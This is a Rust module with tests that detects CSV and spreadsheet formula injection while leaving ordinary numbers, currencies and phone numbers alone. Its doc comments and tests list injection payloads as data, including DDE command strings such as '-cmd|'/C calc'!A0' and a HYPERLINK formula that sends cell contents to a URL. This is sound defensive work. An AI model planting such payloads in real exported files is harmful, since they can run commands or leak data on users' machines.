//! Which texts a spreadsheet runs as a formula when it opens a CSV file: `=HYPERLINK(…)`, `@SUM(A1)`, `-cmd|'/C calc'!A0`.
//!
//! OWASP's page on CSV injection names the signs that start a formula. Behind a plus or a minus, though, there mostly is a number as people
//! write it or a telephone number, and an apostrophe would spoil it: "-1,234.56", "-12 %", "+49 30 1234". These are left alone where
//! a spreadsheet can compute nothing from them.

/// What separates cells for a spreadsheet that does not read the file as it is written: one of another language, or by another's settings.
/// To it a quote within a line is a letter like any other.
pub const SEPARATORS: [char; 6] = [',', ';', '\t', '|', '\n', '\r'];

/// Whether a spreadsheet would run a text.
pub fn is_formula(text: &str) -> bool {
    let text = text.trim_start_matches(is_unseen);
    let mut letters = text.chars();
    match letters.next() {
        // Excel skips the white space that cannot be seen, and takes the wide signs of Japanese keyboards for the narrow ones.
        Some('=' | '＝' | '@' | '＠' | '\t' | '\r' | '\n' | '\0') => true,
        Some('+' | '-' | '＋' | '－') => !is_harmless(text, letters.as_str()),
        _ => text.trim_start().starts_with(['=', '＝', '@', '＠']),
    }
}

/// Whether a spreadsheet would run what stands behind a separator within a text. Behind a sign only what calls something does harm: lines of
/// a list start with a minus too.
pub fn is_formula_within(part: &str) -> bool {
    let part = part.trim_start_matches(|c| c == '"' || is_unseen(c));
    match part.chars().next() {
        Some('=' | '＝' | '@' | '＠') => true,
        Some('+' | '-' | '＋' | '－') => part.contains(['(', '|', '!']) && is_formula(part),
        _ => false,
    }
}

/// What can stand in front of a cell and is not seen there: the mark at the beginning of a file, and spaces without width.
fn is_unseen(c: char) -> bool {
    matches!(c, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{2060}')
}

/// Whether there is nothing to compute in a text, which goes on with `rest` behind its sign.
fn is_harmless(text: &str, rest: &str) -> bool {
    if text.parse().is_ok_and(f64::is_finite) {
        return true;
    }
    let end = rest.rfind(|c: char| c.is_numeric() || c == ')');
    let end = end.map_or(0, |at| at + rest[at..].chars().next().map_or(0, char::len_utf8));
    let (figure, unit) = rest.split_at(end);
    match figure {
        "" => unit.chars().all(is_mark),
        figure => figure.chars().all(is_mark) && unit.chars().all(is_of_unit) && !computes(figure),
    }
}

/// What numbers are written with besides letters. A formula that does harm needs one: for a function, a cell or a program.
fn is_mark(c: char) -> bool {
    c.is_numeric() || c.is_whitespace() || ".,'’()%‰+-–−/".contains(c) || is_currency(c)
}

fn is_currency(c: char) -> bool {
    matches!(c, '$' | '£' | '¥' | '¢' | '฿' | '\u{20a0}'..='\u{20cf}')
}

/// Letters behind the last digit are a unit: no formula has a name right behind a number.
fn is_of_unit(c: char) -> bool {
    c.is_alphabetic() || c.is_whitespace() || ".%‰°²³/".contains(c) || is_currency(c)
}

/// Whether a figure is a sum to a spreadsheet, as 1-800-555 is: it has an operator, and no two numbers with nothing between them.
fn computes(figure: &str) -> bool {
    let solid: Vec<char> = figure.chars().filter(|c| !c.is_whitespace()).collect();
    let has_operator = solid.iter().skip(1).any(|c| "+-/".contains(*c));
    has_operator && !has_gap(figure)
}

fn has_gap(figure: &str) -> bool {
    let letters: Vec<char> = figure.chars().collect();
    let ends = |c: char| c.is_numeric() || c == ')';
    let starts = |c: char| c.is_numeric() || c == '(';
    letters.iter().enumerate().any(|(at, c)| {
        let next = letters[at + 1..].iter().position(|c| !c.is_whitespace());
        let follows = |step: usize| {
            let other = letters[at + 1 + step];
            starts(other) && (step > 0 || *c == ')' || other == '(')
        };
        ends(*c) && next.is_some_and(follows)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_would_run_is_a_formula() {
        let formulas = [
            "=1+1",
            "=HYPERLINK(\"https://example.com?\"&A1)",
            " =1",
            "＝1+1",
            "@SUM(A1)",
            "@sum",
            "＠SUM(A1)",
            "+A1",
            "-A1+5",
            "＋A1",
            "-cmd|' /C calc'!A0",
            "+cmd|'/C calc'!A0",
            "-1+cmd|'/C calc'!A0",
            "-5 %cmd|'x'!A0",
            "+1 HYPERLINK(A1)",
            "-(SUM(A1))",
            "- none",
            "-inf",
            "-5-10",
            "-5 - 10",
            "+1-800-555-1234",
            "-2/3",
            "-1:1",
            "-$A$1",
            "-\"a\"",
            "-5^2",
            "-5&6",
            "\t=1",
            "\tindented",
            "\r=1",
            "\n=1",
            "\0=1",
            "\u{feff}=cmd|'/C calc'!A0",
            "\u{200b}=1",
            "\u{feff}\u{feff}-A1",
        ];
        for text in formulas {
            assert!(is_formula(text), "{text:?}");
        }
    }

    #[test]
    fn what_people_write_behind_a_sign_is_left_alone() {
        let texts = [
            "-5.00",
            "-12.5",
            "+1e5",
            "-1,234.56",
            "-1.234,56",
            "-1 234,56",
            "-1\u{202f}234,56\u{a0}€",
            "-1'234.50",
            "-12 %",
            "-12,5\u{a0}%",
            "-€5",
            "-$1,200.50",
            "-5 kg",
            "-12.50 EUR",
            "-3 °C",
            "+80 km/h",
            "+49 30 1234",
            "+49 (0)30 1234-56",
            "+1 (555) 123",
            "+1 555-123-4567",
            "+1(555)1234567",
            "-",
            "--",
            "-/-",
            "+/-",
            "- -",
            "-١٢٣",
            "",
            "a=1",
            "|calc",
            "%calc",
            "5-10",
            "−5",
            "\u{feff}Name",
        ];
        for text in texts {
            assert!(!is_formula(text), "{text:?}");
        }
    }

    #[test]
    fn what_would_be_a_cell_of_its_own_is_a_formula_too() {
        for part in ["=1+1", "@SUM(A1)", "\"=1", "\u{feff}=1", "-cmd|", "-1+SUM(A1)", "+Sheet2!A1"] {
            assert!(is_formula_within(part), "{part:?}");
        }
        for part in ["- a line of a list", "-5", "+49 30 1234", "-x", " =b", "a=1", "", "(a)", "+49 (0)30 1234-56"] {
            assert!(!is_formula_within(part), "{part:?}");
        }
    }
}
